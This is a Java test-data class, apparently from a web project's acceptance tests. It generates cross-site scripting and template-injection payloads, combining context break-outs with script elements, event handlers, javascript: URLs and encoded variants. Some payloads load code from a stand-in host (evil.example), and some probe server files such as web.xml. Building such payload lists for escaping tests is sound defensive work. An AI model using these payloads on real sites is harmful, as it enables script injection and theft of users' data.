package gatehouse.browser;

import gatehouse.build.Sample;
import java.util.ArrayList;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Set;

/**
 * Text that becomes a script where somebody forgets to escape it (ACCEPTANCE E-03): ways out of
 * each place that text may stand in, and what to run there.
 */
public final class ForeignScripts {
  /**
   * Out of a text, an attribute in either quotes or none, a script's string, a comment, an element.
   */
  private static final List<String> WAYS_OUT =
      List.of(
          "",
          "\">",
          "'>",
          ">",
          "\"/>",
          "-->",
          "]]>",
          "*/",
          "</title>",
          "</textarea>",
          "</style>",
          "</script>",
          "</noscript>",
          "</select>",
          "%>",
          "\\\">",
          "&quot;>",
          "\u2028");

  private static final List<String> ELEMENTS =
      List.of(
          "<script>alert(1)</script>",
          "<ScRiPt>alert(1)</sCrIpT>",
          "<script src=//evil.example/x.js></script>",
          "<script src=data:text/javascript,alert(1)></script>",
          "<img src=x onerror=alert(1)>",
          "<img/src/onerror=alert(1)>",
          "<svg onload=alert(1)>",
          "<svg><script>alert(1)</script></svg>",
          "<body onload=alert(1)>",
          "<iframe src=javascript:alert(1)>",
          "<iframe srcdoc='<script>parent.alert(1)</script>'>",
          "<details open ontoggle=alert(1)>x</details>",
          "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>",
          "<base href=//evil.example/>");

  private static final List<String> ATTRIBUTES =
      List.of(
          "\" onmouseover=alert(1) x=\"",
          "' onmouseover=alert(1) x='",
          "\" autofocus onfocus=alert(1) x=\"",
          "' autofocus onfocus=alert(1) x='",
          "\" style=animation-name:x onanimationstart=alert(1) x=\"",
          "x onerror=alert(1) ",
          "` onfocus=alert(1) `",
          "\" formaction=javascript:alert(1) x=\"",
          "\" href=javascript:alert(1) x=\"");

  private static final List<String> ADDRESSES =
      List.of(
          "javascript:alert(1)",
          "JaVaScRiPt:alert(1)",
          "java\tscript:alert(1)",
          "java%0ascript:alert(1)",
          "javascript://%0aalert(1)",
          "data:text/html,<script>alert(1)</script>",
          "vbscript:msgbox(1)",
          "//evil.example/%2f..",
          "blob:null/x");

  private static final List<String> EXPRESSIONS =
      List.of(
          "${alert(1)}",
          "#{alert(1)}",
          "{{constructor.constructor('alert(1)')()}}",
          "<%= 7*7 %>",
          "${7*7}",
          "${pageContext.request}",
          "${applicationScope}",
          "<c:out value=\"${7*7}\"/>",
          "<jsp:include page=\"/WEB-INF/web.xml\"/>",
          "';alert(1)//",
          "\";alert(1)//",
          "\\';alert(1)//",
          "`-alert(1)-`",
          "\u2028alert(1)//",
          "</script><script>alert(1)//",
          "<!--<script>",
          "<![CDATA[<script>alert(1)</script>]]>",
          "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
          "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
          "\u02bascript\u02baalert(1)",
          "&lt;script&gt;alert(1)&lt;/script&gt;",
          "&#60;script&#62;alert(1)&#60;/script&#62;",
          "%3Cscript%3Ealert(1)%3C/script%3E",
          "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
          "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
          "<a href=javascript:alert(1) id=x>x</a>",
          "<form action=javascript:alert(1)><button autofocus>x</button></form>",
          "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
          "<link rel=stylesheet href=//evil.example/x.css>",
          "<style>@import '//evil.example/x.css';</style>",
          "<object data=javascript:alert(1)>",
          "<embed src=javascript:alert(1)>");

  private ForeignScripts() {}

  public static List<String> all() {
    Set<String> all = new LinkedHashSet<>();
    for (String way : WAYS_OUT) {
      ELEMENTS.forEach(element -> all.add(way + element));
    }
    all.addAll(ATTRIBUTES);
    all.addAll(ADDRESSES);
    for (String address : ADDRESSES) {
      all.add("<a href='" + address + "'>x</a>");
    }
    all.addAll(EXPRESSIONS);
    return List.copyOf(all);
  }

  /** Several at a time; in an ordinary build one in ten of them. */
  static List<List<String>> batches(int size) {
    List<String> all = all();
    List<List<String>> batches = new ArrayList<>();
    for (int from = 0; from < all.size(); from += size) {
      batches.add(all.subList(from, Math.min(from + size, all.size())));
    }
    return Sample.ofThisBuild().everyNth(10, batches);
  }
}
